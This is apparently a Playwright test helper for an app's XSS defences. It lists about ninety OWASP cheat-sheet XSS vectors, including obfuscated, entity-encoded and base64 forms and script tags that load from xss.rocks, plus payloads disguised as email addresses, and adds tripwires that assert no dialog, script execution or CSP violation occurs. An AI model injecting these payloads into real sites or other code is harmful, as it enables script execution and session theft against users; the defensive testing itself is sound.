import { expect, type Page } from '@playwright/test';

/**
 * Cross-site scripting vectors, copied from the OWASP "XSS Filter Evasion Cheat Sheet"
 * (https://cheatsheetseries.owasp.org/cheatsheets/XSS_Filter_Evasion_Cheat_Sheet.html, itself
 * after RSnake's original list), written out here because the test machines have no network.
 * Where the sheet calls `alert('XSS')` these call `__xss()`, a counter the attack spec exposes to
 * the page, so an execution is counted even where a dialog would not show; a few keep `alert`,
 * hidden in character codes or entities the way the sheet hides it, and the spec counts dialogs
 * too. External hosts are the sheet's own (xss.rocks), which nothing here can reach.
 */
export const xssPayloads: readonly string[] = [
  // Basic and polyglot
  `<SCRIPT SRC=https://xss.rocks/xss.js></SCRIPT>`,
  `javascript:/*--></title></style></textarea></script></xmp><svg/onload='+/"/+/onmouseover=1/+/[*/[]/+__xss()//'>`,
  `<script>__xss()</script>`,
  `"><script>__xss()</script>`,
  `'><script>__xss()</script>`,
  // Image tags
  `<IMG SRC="javascript:__xss();">`,
  `<IMG SRC=javascript:__xss()>`,
  `<IMG SRC=JaVaScRiPt:__xss()>`,
  `<IMG SRC=\`javascript:__xss()\`>`,
  `<IMG """><SCRIPT>__xss()</SCRIPT>"\\>`,
  `<IMG SRC=javascript:alert(String.fromCharCode(88,83,83))>`,
  `<IMG SRC=# onmouseover="__xss()">`,
  `<IMG SRC= onmouseover="__xss()">`,
  `<IMG onmouseover="__xss()">`,
  `<IMG SRC=/ onerror="__xss()"></img>`,
  `<img src=x onerror="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040&#0000039&#0000088&#0000083&#0000083&#0000039&#0000041">`,
  `<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;&#114;&#116;&#40;&#39;&#88;&#83;&#83;&#39;&#41;>`,
  `<IMG SRC=&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040&#0000039&#0000088&#0000083&#0000083&#0000039&#0000041>`,
  `<IMG SRC=&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C&#x65&#x72&#x74&#x28&#x27&#x58&#x53&#x53&#x27&#x29>`,
  `<IMG SRC="jav\tascript:__xss();">`,
  `<IMG SRC="jav&#x09;ascript:__xss();">`,
  `<IMG SRC="jav&#x0A;ascript:__xss();">`,
  `<IMG SRC="jav&#x0D;ascript:__xss();">`,
  `<IMG SRC=" &#14;  javascript:__xss();">`,
  `<IMG SRC="javascript:__xss()"`,
  `<IMG DYNSRC="javascript:__xss()">`,
  `<IMG LOWSRC="javascript:__xss()">`,
  `<IMG SRC='vbscript:msgbox("XSS")'>`,
  `<IMG STYLE="xss:expr/*XSS*/ession(__xss())">`,
  // Tags and attribute tricks
  `<SCRIPT/XSS SRC="https://xss.rocks/xss.js"></SCRIPT>`,
  `<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^\`=__xss()>`,
  `<SCRIPT/SRC="https://xss.rocks/xss.js"></SCRIPT>`,
  `<<SCRIPT>__xss();//\\<</SCRIPT>`,
  `<SCRIPT SRC=http://xss.rocks/xss.js?< B >`,
  `<SCRIPT SRC=//xss.rocks/.j>`,
  `<IMG SRC="\`<javascript:__xss()>\`"`,
  `<iframe src=http://xss.rocks/scriptlet.html <`,
  `\\";__xss();//`,
  `</TITLE><SCRIPT>__xss();</SCRIPT>`,
  `<INPUT TYPE="IMAGE" SRC="javascript:__xss();">`,
  `<BODY BACKGROUND="javascript:__xss()">`,
  `<svg/onload=__xss()>`,
  `<svg><script>__xss()</script></svg>`,
  `<BODY ONLOAD=__xss()>`,
  `<BGSOUND SRC="javascript:__xss();">`,
  `<BR SIZE="&{__xss()}">`,
  `<LINK REL="stylesheet" HREF="javascript:__xss();">`,
  `<LINK REL="stylesheet" HREF="http://xss.rocks/xss.css">`,
  `<STYLE>@import'http://xss.rocks/xss.css';</STYLE>`,
  `<META HTTP-EQUIV="Link" Content="<http://xss.rocks/xss.css>; REL=stylesheet">`,
  `<STYLE>BODY{-moz-binding:url("http://xss.rocks/xssmoz.xml#xss")}</STYLE>`,
  `<STYLE>li {list-style-image: url("javascript:__xss()");}</STYLE><UL><LI>XSS</br>`,
  `<IMG SRC="livescript:[code]">`,
  `<svg/onload=alert('XSS')>`,
  `<META HTTP-EQUIV="refresh" CONTENT="0;url=javascript:__xss();">`,
  `<META HTTP-EQUIV="refresh" CONTENT="0;url=data:text/html base64,PHNjcmlwdD5hbGVydCgnWFNTJyk8L3NjcmlwdD4K">`,
  `<META HTTP-EQUIV="refresh" CONTENT="0; URL=http://;URL=javascript:__xss();">`,
  `<IFRAME SRC="javascript:__xss();"></IFRAME>`,
  `<IFRAME SRC=# onmouseover="__xss()"></IFRAME>`,
  `<FRAMESET><FRAME SRC="javascript:__xss();"></FRAMESET>`,
  `<TABLE BACKGROUND="javascript:__xss()">`,
  `<TABLE><TD BACKGROUND="javascript:__xss()">`,
  `<DIV STYLE="background-image: url(javascript:__xss())">`,
  `<DIV STYLE="background-image:\\0075\\0072\\006C\\0028'\\006a\\0061\\0076\\0061\\0073\\0063\\0072\\0069\\0070\\0074\\003a\\0061\\006c\\0065\\0072\\0074\\0028.1027\\0058.1053\\0053\\0027\\0029'\\0029">`,
  `<DIV STYLE="background-image: url(&#1;javascript:__xss())">`,
  `<DIV STYLE="width: expression(__xss());">`,
  `<!--[if gte IE 4]><SCRIPT>__xss();</SCRIPT><![endif]-->`,
  `<BASE HREF="javascript:__xss();//">`,
  `<OBJECT TYPE="text/x-scriptlet" DATA="http://xss.rocks/scriptlet.html"></OBJECT>`,
  `<EMBED SRC="data:image/svg+xml;base64,PHN2ZyB4bWxuczpzdmc9Imh0dH A6Ly93d3cudzMub3JnLzIwMDAvc3ZnIiB4bWxucz0iaHR0cDovL3d3dy53My5vcmcvMjAwMC9zdmciIHhtbG5zOnhsaW5rPSJodHRwOi8vd3d3LnczLm9yZy8xOTk5L3hsaW5rIiB2ZXJzaW9uPSIxLjAiIHg9IjAiIHk9IjAiIHdpZHRoPSIxOTQiIGhlaWdodD0iMjAwIiBpZD0ieHNzIj48c2NyaXB0IHR5cGU9InRleHQvZWNtYXNjcmlwdCI+YWxlcnQoIlhTUyIpOzwvc2NyaXB0Pjwvc3ZnPg==" type="image/svg+xml" AllowScriptAccess="always"></EMBED>`,
  `<SCRIPT a=">" SRC="httx://xss.rocks/xss.js"></SCRIPT>`,
  `<SCRIPT =">" SRC="httx://xss.rocks/xss.js"></SCRIPT>`,
  `<SCRIPT a=">" '' SRC="httx://xss.rocks/xss.js"></SCRIPT>`,
  `<SCRIPT "a='>'" SRC="httx://xss.rocks/xss.js"></SCRIPT>`,
  `<SCRIPT a=\`>\` SRC="httx://xss.rocks/xss.js"></SCRIPT>`,
  `<SCRIPT a=">'>" SRC="httx://xss.rocks/xss.js"></SCRIPT>`,
  `<SCRIPT>document.write("<SCRI");</SCRIPT>PT SRC="httx://xss.rocks/xss.js"></SCRIPT>`,
  `<A HREF="javascript:document.location='http://www.google.com/'">XSS</A>`,
  `<a href="jav&#x09;ascript:__xss()">click</a>`,
  `<details open ontoggle=__xss()>`,
  `<video><source onerror="__xss()">`,
  `<marquee onstart=__xss()>`,
  `<isindex type=image src=1 onerror=__xss()>`,
  `<form><button formaction=javascript:__xss()>X</button></form>`,
  `<math><mi xlink:href="javascript:__xss()">X</mi></math>`,
  `<XSS STYLE="behavior: url(xss.htc);">`,
  `<XML ID="xss"><I><B><IMG SRC="javas<!-- -->cript:__xss()"></B></I></XML>`,
  `%3Cscript%3E__xss()%3C%2Fscript%3E`,
  `\\u003cscript\\u003e__xss()\\u003c/script\\u003e`,
  `{{constructor.constructor('__xss()')()}}`,
  `\${__xss()}`,
  `"><img src=x onerror=__xss()>@x.io`,
  `"onmouseover="__xss()"@x.io`,
];

/**
 * The same vectors shaped as email addresses the contract's Email pattern (no spaces, one @, a dot
 * after it) can let through, so they reach storage and come back on the account page.
 */
export const xssEmails: readonly string[] = [
  `"><svg/onload=__xss()>@x.io`,
  `<img/src=x/onerror=__xss()>@x.io`,
  `<script>__xss()</script>@x.io`,
  `'"><iframe/src=javascript:__xss()>@x.io`,
  `x@<svg/onload=__xss()>.io`,
  `<details/open/ontoggle=__xss()>@x.io`,
  `javascript:__xss()//@x.io`,
];

/** What a page did that it must not: dialogs, executions of `__xss()`, Content-Security-Policy refusals. */
export interface Tripwires {
  dialogs: string[];
  executions: string[];
  violations: Violation[];
}

export interface Violation {
  directive: string;
  blocked: string;
  /** The script that caused it (for an inline attribute: the code that parsed it). */
  source: string;
  page: string;
}

/**
 * Arms `page` before its first navigation: `__xss()` counts (it stays defined across
 * navigations), dialogs are counted and dismissed, and every `securitypolicyviolation` event is
 * recorded, so a policy that breaks the app fails the test too.
 */
export async function armTripwires(page: Page): Promise<Tripwires> {
  const wires: Tripwires = { dialogs: [], executions: [], violations: [] };
  page.on('dialog', (dialog) => {
    wires.dialogs.push(`${dialog.type()}: ${dialog.message()} on ${page.url()}`);
    void dialog.dismiss();
  });
  await page.exposeFunction('__xss', () => wires.executions.push(page.url()));
  await page.exposeFunction('__cspViolation', (v: Violation) => wires.violations.push(v));
  await page.addInitScript(() => {
    document.addEventListener('securitypolicyviolation', (e) => {
      const report = (window as unknown as { __cspViolation(v: Violation): Promise<void> }).__cspViolation;
      void report({ directive: e.effectiveDirective, blocked: e.blockedURI || 'inline', source: e.sourceFile, page: e.documentURI });
    });
  });
  return wires;
}

/**
 * Chromium checks the page's policy even while markup is parsed into an inert document (DOMParser,
 * <template>), where nothing can run: DOMPurify's parse of hostile HTML reports the inline handlers,
 * styles and <base> it is about to remove. Those reports come from the app's own bundle and name
 * no URL; anything else (a script, frame, image or connection refused) is a real refusal.
 */
export const isInertParseReport = (v: Violation) =>
  ['script-src-attr', 'style-src-attr', 'style-src-elem', 'base-uri'].includes(v.directive) && v.blocked === 'inline' && /\/assets\/[^/]+\.js$/.test(v.source);

export function expectNoneTripped(wires: Tripwires, { inertParse = false } = {}) {
  expect(wires.dialogs, 'dialogs').toEqual([]);
  expect(wires.executions, 'executions of __xss()').toEqual([]);
  expect(
    wires.violations.filter((v) => !(inertParse && isInertParseReport(v))),
    'Content-Security-Policy violations',
  ).toEqual([]);
}
